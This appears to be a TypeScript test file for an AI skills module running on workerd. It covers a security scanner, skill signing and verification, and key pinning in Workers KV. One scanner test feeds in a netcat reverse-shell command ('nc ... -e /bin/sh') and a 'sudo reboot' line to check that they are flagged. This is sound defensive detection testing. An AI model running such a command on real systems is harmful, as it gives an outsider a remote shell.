import { test } from "../_harness.ts";
import { assertEquals, assertRejects } from "../_assert.ts";
import { workerEnv } from "./_env.ts";
import {
  generateSkillSigningKeys,
  signSkill,
  SkillError,
  SkillLoader,
  SkillScanner,
  type StorageAdapter,
  verifySkillSignature,
} from "../../skills/mod.ts";

/** The worker's KV namespace as a StorageAdapter, for the pin store. */
function kvStorage(): StorageAdapter {
  const kv = workerEnv().KV;
  return {
    get: async (key) => (await kv.get(key, "text")) ?? undefined,
    put: (key, value) => kv.put(key, value),
    delete: (key) => kv.delete(key),
    list: async (prefix) => {
      const keys: string[] = [];
      let cursor: string | undefined;
      do {
        const page = await kv.list({ prefix, cursor });
        keys.push(...page.keys.map((k) => k.name));
        cursor = page.list_complete ? undefined : page.cursor;
      } while (cursor);
      return keys.sort();
    },
  };
}

test("skills (workerd): scanning content and an in-memory folder", async () => {
  const scanner = new SkillScanner();
  assertEquals(
    scanner.scanContent("nc 10.0.0.1 4444 -e /bin/sh", "x.sh")[0].rule,
    "reverse-shell-nc",
  );
  const result = await scanner.scanSkill({ "SKILL.md": "# ok\n", "run.sh": "sudo reboot\n" });
  assertEquals([result.passed, result.findings[0].file], [false, "run.sh"]);
});

test("skills (workerd): sign, verify, pin in Workers KV, and load from maps", async () => {
  const keys = await generateSkillSigningKeys();
  const files = { "SKILL.md": "---\nname: edge\n---\n# Edge\n" };
  const signed = await signSkill(files, {
    privateKeyPem: keys.privateKeyPem,
    domain: "example.com",
  });
  const v = await verifySkillSignature({ ...files, ".schemapin.sig": signed.text }, {
    discovery: { public_key_pem: keys.publicKeyPem },
  });
  assertEquals(v.status, "verified");
  const loader = new SkillLoader({
    loadPaths: [{
      name: "edge",
      files: { "edge/SKILL.md": files["SKILL.md"], "edge/.schemapin.sig": signed.text },
    }],
    requireSigned: true,
    autoPin: true,
    pinStorage: kvStorage(),
    discovery: { "example.com": { public_key_pem: keys.publicKeyPem } },
  });
  const [first] = await loader.loadAll();
  assertEquals([first.signatureStatus, first.accepted], ["pinned", true]);
  const offline = new SkillLoader({
    loadPaths: loader.config.loadPaths,
    autoPin: true,
    pinStorage: kvStorage(),
  });
  assertEquals((await offline.loadAll())[0].signatureStatus, "pinned");
});

test("skills (workerd): a folder path fails with SKILL_FS_UNAVAILABLE", async () => {
  const error = await assertRejects(() => new SkillScanner().scanSkill("/skills/x"), SkillError);
  assertEquals(error.code, "SKILL_FS_UNAVAILABLE");
});
